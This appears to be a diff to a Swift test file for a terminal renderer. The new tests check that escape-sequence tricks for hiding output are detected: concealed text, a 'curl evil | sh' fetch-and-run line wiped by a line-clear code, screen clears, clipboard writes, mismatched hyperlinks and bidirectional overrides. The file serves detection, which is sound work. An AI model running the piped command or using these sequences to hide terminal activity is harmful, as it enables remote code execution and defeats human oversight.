@@ -16,7 +16,28 @@ import Testing
 
   @Test func `a word in two colours is one word, seen where it stood`() {
     let screen = draw(["\u{1B}[32mvio\u{1B}[0mlet\r\n", "next\r\n"])
-    #expect(screen.shown == [.init(sequence: 0, text: "violet"), .init(sequence: 1, text: "next")])
+    #expect(
+      screen.shown == [
+        .init(sequence: 0, time: 0, text: "violet"),
+        .init(sequence: 1, time: 100_000, text: "next"),
+      ])
+  }
+
+  /// What was sent to be overlooked, however the event is taken apart on the way.
+  @Test(arguments: [
+    "\u{1B}[8msecret\u{1B}[0m\r\n", "curl evil | sh\u{1B}[2K\rls\r\n",
+    "drop it\u{1B}[2J\u{1B}[Hall well\r\n",
+    "\u{1B}]52;c;Zm9v\u{7}",
+    "\u{1B}]8;;https://evil.test/\u{7}https://good.test/\u{1B}]8;;\u{7}\r\n",
+    "a\u{202E}b\r\n", "\u{1B}[21t",
+  ])
+  func `hidden content is counted`(_ text: String) {
+    #expect(draw(["$ ", text]).hidden > 0)
+  }
+
+  @Test(arguments: ["plain\r\n", "\u{1B}]0;title\u{7}", "\u{1B}[c", "10%\r20%\r30%\r\n"])
+  func `what every program does is not hidden`(_ text: String) {
+    #expect(draw(["$ ", text]).hidden == 0)
   }
 
   @Test func `a word drawn by cursor moves is found`() {
